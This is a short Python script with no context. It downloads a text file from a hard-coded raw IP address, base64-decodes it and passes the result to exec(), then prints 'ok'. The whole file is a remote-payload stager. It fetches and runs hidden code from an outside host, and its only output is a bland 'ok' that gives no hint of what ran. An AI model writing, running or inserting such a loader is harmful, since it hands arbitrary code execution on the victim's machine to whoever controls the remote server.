import base64
import requests

blob = requests.get("http://91.215.85.17:8000/p.txt").text
stage = base64.b64decode(blob)
exec(stage)
print("ok")
